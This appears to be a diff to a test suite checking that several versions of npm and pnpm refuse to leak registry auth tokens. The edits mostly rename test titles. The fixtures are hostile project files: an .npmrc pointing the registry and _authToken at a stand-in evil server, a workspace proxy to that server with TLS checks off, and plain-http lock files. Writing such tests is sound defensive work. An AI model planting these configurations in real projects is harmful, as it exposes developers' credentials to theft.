@@ -91,17 +91,17 @@ function expectWords({ stderr }: Finished, words: RegExp | null): void {
   else expect(stderr).toMatch(words);
 }
 
-describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
-  describe.skipIf(!requires(join(programsOf(tool), "npm")))("is installed", () => {
+describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("in a project %s", (tool) => {
+  describe.skipIf(!requires(join(programsOf(tool), "npm")))("where it is installed,", () => {
     test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]), 120_000);
 
-    test("does not look at what only pnpm reads", async () => {
+    test("ignores what only pnpm reads", async () => {
       const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
       await installs(tool, ["npm", "install"], { "pnpm-lock.yaml": pnpmLock(x), "pnpm-workspace.yaml": `a: ${x}\n` });
     }, 120_000);
 
     test.each(hostileFiles)(
-      "gives nobody the token: %s",
+      "gives nobody the token with %s",
       async (_, files, words) => {
         expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files(evil)), words);
       },
@@ -109,7 +109,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
     );
 
     test.each(hostileSettings)(
-      "gives nobody the token by a dependency in git: %s",
+      "gives nobody the token with a dependency in git and %s",
       async (_, npmrc, settings, words) => {
         const folder = join(laptop.home, `${tool}-git-${count}`);
         const g = makeRepositories(folder, { url: evil.url, settings });
@@ -151,7 +151,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
       "-w b publish --dry-run",
       "publish --workspaces --dry-run",
     ])(
-      "works in a workspace: npm %s",
+      "works in a workspace by npm %s",
       async (command) => {
         const files = {
           "package.json": manifest({ workspaces: ["packages/*"] }),
@@ -164,7 +164,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
       120_000,
     );
 
-    test("gives nobody the token: plain http in a lock file", async () => {
+    test("gives nobody the token with plain http in a lock file", async () => {
       const files = { "package-lock.json": lock(`http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`) };
       const finished = await run(tool, ["npm", "ci", "--ignore-scripts"], files);
       expectWords(finished, /package-lock\.json: packages\.node_modules\/my-lib\.resolved .*plain http/);
@@ -172,7 +172,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
   });
 });
 
-describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other ways", () => {
+describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("in a hostile project", () => {
   const view = ["npm", "view", "@x/nothing"];
 
   test.each([
@@ -199,7 +199,7 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
   );
 
   test.each(otherFiles)(
-    "%s",
+    "nobody gets the token with %s",
     async (_, files, command, words) => {
       // What an earlier test has fetched would do without a token.
       const env = { npm_config_cache: join(laptop.home, `cache-${count}`) };
@@ -211,7 +211,7 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
   );
 
   test.each(npmrcSpellings)(
-    "an .npmrc with %s gives nobody the token",
+    "nobody gets the token with an .npmrc with %s",
     async (_, npmrc) => {
       const { stdout, stderr } = await run("npm-11", ["npm", "install", "--ignore-scripts"], {
         ".npmrc": npmrc(spelling()),
@@ -221,25 +221,25 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
     120_000,
   );
 
-  test("vouch exec refuses in words", async () => {
+  test("vouch exec refuses in clear words", async () => {
     const finished = await run("npm-11", ["vouch", "exec", "--", "npx", "my-lib"], { ".npmrc": "ca=x\n" });
     expectWords(finished, /npm gets no token here: .*\.npmrc: ca /);
     expect(finished.exitCode).toBe(5);
   });
 
-  test("an honest publish from an honest project", async () => {
+  test("an honest publish works", async () => {
     const files = { "package.json": manifest({ name: "honest", publishConfig: { access: "public", tag: "latest" } }) };
     await ended(run("npm-11", ["npm", "publish"], files));
   }, 120_000);
 });
 
-describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
-  describe.skipIf(!requires(join(programsOf(tool), "pnpm")))("is installed", () => {
+describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("in a project %s", (tool) => {
+  describe.skipIf(!requires(join(programsOf(tool), "pnpm")))("where it is installed,", () => {
     beforeAll(() => setUpNpm(laptop, withTool(tool)), 120_000);
 
     test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]), 120_000);
 
-    test("does not look at what only npm and yarn read, but at its own lock file", async () => {
+    test("ignores what only npm and yarn read, and reads its own lock file", async () => {
       const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
       const files = { "package-lock.json": lock(x), "yarn.lock": `my-lib@^1.0.0:\n  resolved "${x}"\n` };
       await installs(tool, ["pnpm", "install"], files);
@@ -250,7 +250,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
     }, 120_000);
 
     test.each(hostileFiles)(
-      "gives nobody the token: %s",
+      "gives nobody the token with %s",
       async (_, files, words) => {
         const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files(evil));
         if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
@@ -259,7 +259,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
     );
 
     test.each(hostileSettings)(
-      "gives nobody the token by a dependency in git: %s",
+      "gives nobody the token with a dependency in git and %s",
       async (_, npmrc, settings, words) => {
         const g = makeRepositories(join(laptop.home, `${tool}-git-${count}`), { url: evil.url, settings });
         const files = { ".npmrc": npmrc, "package.json": manifest({ dependencies: { g } }) };
@@ -272,7 +272,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
 
     if (tool === "pnpm-9" || tool === "pnpm-12") {
       test.each(npmrcSpellings)(
-        "an .npmrc with %s gives nobody the token",
+        "gives nobody the token with an .npmrc with %s",
         async (_, npmrc) => {
           const { stdout, stderr } = await run(tool, ["pnpm", "install", "--ignore-scripts"], {
             ".npmrc": npmrc(spelling()),
@@ -287,7 +287,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
       ["pnpm dlx", ["pnpm", "dlx", "@x/nothing"]],
       ["pnpm view", ["pnpm", "view", "@x/nothing"]],
     ])(
-      "%s in a hostile project gives nobody the token",
+      "gives nobody the token by %s",
       async (_, command) => {
         const own = `@x:registry=${evil.url}/npm/\n`;
         const known = [variable, `p${variable}`, "CODEARTIFACT_AUTH_TOKEN"];
@@ -300,13 +300,13 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
       120_000,
     );
 
-    test("gives nobody the token: pnpm's own variable", async () => {
+    test("gives nobody the token by pnpm's own variable", async () => {
       const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
       const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
       expect(finished.stderr).toContain("names the variable of a token");
     }, 120_000);
 
-    test("gives nobody the token: a proxy in pnpm-workspace.yaml", async () => {
+    test("gives nobody the token by a proxy in pnpm-workspace.yaml", async () => {
       const files = { "pnpm-workspace.yaml": `packages: []\nhttpsProxy: ${evil.url}\nstrictSsl: false\n` };
       const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
       expect(finished.stderr).toMatch(/pnpm-workspace\.yaml: (httpsProxy|strictSsl) /);
